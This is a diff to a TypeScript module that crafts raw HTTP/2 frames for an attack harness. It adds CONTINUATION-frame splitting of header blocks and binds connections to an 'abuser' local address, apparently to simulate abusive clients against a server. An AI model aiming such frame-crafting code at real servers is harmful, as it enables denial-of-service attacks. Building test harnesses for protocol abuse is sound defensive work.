@@ -1,11 +1,12 @@
 import { connect, type Socket } from 'node:net';
-import type { Target } from './attack.js';
+import { ABUSER_ADDRESS, type Target } from './attack.js';
 
 /** Frames of RFC 9113 by hand: no HTTP/2 client would send what an attack is made of. */
 export const TYPES = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
-export const FLAGS = { endStream: 1, endHeaders: 4 } as const;
+export const FLAGS = { acknowledge: 1, endStream: 1, endHeaders: 4 } as const;
 export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\n'), Buffer.from('SM\r\n\r\n')]);
 const FRAME_HEAD_BYTES = 9;
+const FRAME_MAX_BYTES = 16 * 1024;
 
 export interface Frame {
   readonly type: number;
@@ -57,6 +58,17 @@ export function callHeaders(path: string, more: readonly (readonly [string, stri
   ]);
 }
 
+/** A header block over as many frames as it takes: a peer takes 16 KiB in one without being asked. */
+export function headerFrames(block: Buffer, stream: number): Buffer {
+  const frames: Buffer[] = [];
+  for (let from = 0; from < block.length; from += FRAME_MAX_BYTES) {
+    const payload = block.subarray(from, from + FRAME_MAX_BYTES);
+    const flags = from + FRAME_MAX_BYTES >= block.length ? FLAGS.endHeaders : 0;
+    frames.push(frame({ type: from === 0 ? TYPES.headers : TYPES.continuation, flags, stream, payload }));
+  }
+  return Buffer.concat(frames);
+}
+
 /** A connection that says whatever it is told to. */
 export class RawConnection {
   readonly #socket: Socket;
@@ -77,7 +89,7 @@ export class RawConnection {
 
   /** Undefined: refused. `reads`: what comes is read and thrown away. */
   static async dial({ host, port, note }: Target, { reads = true } = {}): Promise<RawConnection | undefined> {
-    const socket = connect({ host, port });
+    const socket = connect({ host, port, localAddress: ABUSER_ADDRESS });
     const isOpen = await new Promise<boolean>((resolve) => {
       socket.once('connect', () => resolve(true)).once('close', () => resolve(false));
       // A reset is how a server cuts: 'close' comes after it.
